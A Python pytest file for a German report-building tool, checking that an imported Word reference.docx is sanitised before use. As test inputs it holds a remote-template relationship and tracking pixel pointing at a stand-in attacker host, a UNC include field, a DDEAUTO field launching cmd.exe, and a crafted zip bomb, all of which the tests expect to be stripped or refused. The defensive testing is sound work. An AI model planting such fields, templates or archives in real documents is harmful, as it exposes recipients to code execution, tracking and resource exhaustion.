"""A reference.docx from other hands cannot reach out of the build or explode it."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest

from integrationskonzept.render import RenderError
from integrationskonzept.render.build import build
from integrationskonzept.render.design import default_design
from integrationskonzept.render.officefiles import safe_reference_docx
from integrationskonzept.render.referencedoc import reference_docx

RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEMPLATE_REL = (f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}"><Relationship '
                f'Id="rId9" Type="{OFFICE}/attachedTemplate" '
                'Target="https://angreifer.example/vorlage.dotm" TargetMode="External"/>'
                "</Relationships>")
HEADER_REL = (f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}"><Relationship '
              f'Id="rId7" Type="{OFFICE}/hyperlink" Target="https://angreifer.example/p" '
              'TargetMode="External"/></Relationships>')
HEADER_LINK = b'<w:hyperlink r:id="rId7"><w:r><w:t>Stadt</w:t></w:r></w:hyperlink>'


def docx_with(changes: dict[str, bytes | str], edit: dict[str, tuple[bytes, bytes]] | None = None
              ) -> bytes:
    """The generated reference.docx with parts added/replaced and text replaced in parts."""
    base = zipfile.ZipFile(io.BytesIO(reference_docx(default_design())))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name in base.namelist():
            content = base.read(name)
            for old, new in [v for k, v in (edit or {}).items() if k == name]:
                assert old in content, (name, old)
                content = content.replace(old, new, 1)
            if name not in changes:
                dst.writestr(name, content)
        for name, content in changes.items():
            dst.writestr(name, content)
    return out.getvalue()


def parts(data: bytes) -> dict[str, bytes]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return {name: archive.read(name) for name in archive.namelist()}


def test_remote_template_and_header_links_are_dropped(tmp_path: Path) -> None:
    path = tmp_path / "reference.docx"
    path.write_bytes(docx_with(
        {"word/_rels/settings.xml.rels": TEMPLATE_REL, "word/_rels/header1.xml.rels": HEADER_REL},
        {"word/settings.xml": (b"<w:zoom", b'<w:attachedTemplate r:id="rId9"/><w:zoom'),
         "word/header1.xml": (b"</w:hdr>", b"<w:p>" + HEADER_LINK + b"</w:p></w:hdr>")}))
    cleaned = parts(safe_reference_docx(path))
    everything = b"".join(cleaned.values())
    assert b"angreifer.example" not in everything
    assert b"attachedTemplate" not in cleaned["word/settings.xml"]
    assert b"<w:hyperlink><w:r><w:t>Stadt" in cleaned["word/header1.xml"]


@pytest.mark.parametrize("field", [
    b'INCLUDEPICTURE "https://angreifer.example/pixel.png" \\d',
    b'INCLUDETEXT "\\\\\\\\server\\\\share\\\\geheim.docx"',
    b'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"',
])
def test_fields_loading_from_elsewhere_are_refused(tmp_path: Path, field: bytes) -> None:
    path = tmp_path / "reference.docx"
    path.write_bytes(docx_with({}, {"word/header1.xml": (
        b"</w:hdr>", b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
                     + field + b"</w:instrText></w:r></w:p></w:hdr>")}))
    with pytest.raises(RenderError, match="design/reference.docx enthält ein Feld"):
        safe_reference_docx(path)


def test_externally_linked_picture_is_refused(tmp_path: Path) -> None:
    rel = HEADER_REL.replace("/hyperlink", "/image")
    path = tmp_path / "reference.docx"
    path.write_bytes(docx_with({"word/_rels/header1.xml.rels": rel}))
    with pytest.raises(RenderError, match="lädt Inhalte von außerhalb"):
        safe_reference_docx(path)


def test_zip_bomb_is_refused_before_unpacking(tmp_path: Path) -> None:
    path = tmp_path / "reference.docx"
    path.write_bytes(docx_with({"word/media/leer.xml": b"<a/>" + b" " * (60 * 2**20)}))
    assert path.stat().st_size < 2**20
    with pytest.raises(RenderError, match="design/reference.docx") as info:
        safe_reference_docx(path)
    assert "ZIP-Bombe" in info.value.message or "entpackt zu groß" in info.value.message


def test_not_a_zip_is_a_german_error(tmp_path: Path) -> None:
    path = tmp_path / "reference.docx"
    path.write_bytes(b"kein zip")
    with pytest.raises(RenderError, match="keine gültige Word-Datei"):
        safe_reference_docx(path)


@pytest.mark.slow
def test_build_output_carries_no_external_template(concept, tmp_path: Path) -> None:
    root = concept()
    (root / "design").mkdir()
    (root / "design" / "reference.docx").write_bytes(docx_with(
        {"word/_rels/settings.xml.rels": TEMPLATE_REL, "word/_rels/header1.xml.rels": HEADER_REL},
        {"word/settings.xml": (b"<w:zoom", b'<w:attachedTemplate r:id="rId9"/><w:zoom'),
         "word/header1.xml": (b"</w:hdr>", b"<w:p>" + HEADER_LINK + b"</w:p></w:hdr>")}))
    result = build(root, ["docx"], out=tmp_path / "out")
    assert result.ok, result.problems
    written = parts((tmp_path / "out" / "integrationskonzept.docx").read_bytes())
    assert not any(b"angreifer.example" in content for content in written.values())


@pytest.mark.parametrize("width", [b"11906.5", b"A4", b"99999999"])
def test_odd_page_size_is_a_german_error(tmp_path: Path, width: bytes) -> None:
    base = parts(reference_docx(default_design()))["word/document.xml"]
    old = re.search(rb'<w:pgSz\b[^>]*w:w="(\d+)"', base)
    assert old is not None
    path = tmp_path / "reference.docx"
    path.write_bytes(docx_with({}, {"word/document.xml": (
        b'w:w="' + old.group(1) + b'"', b'w:w="' + width + b'"')}))
    with pytest.raises(RenderError, match="die Seitenbreite .* ist keine gültige Angabe"):
        safe_reference_docx(path)
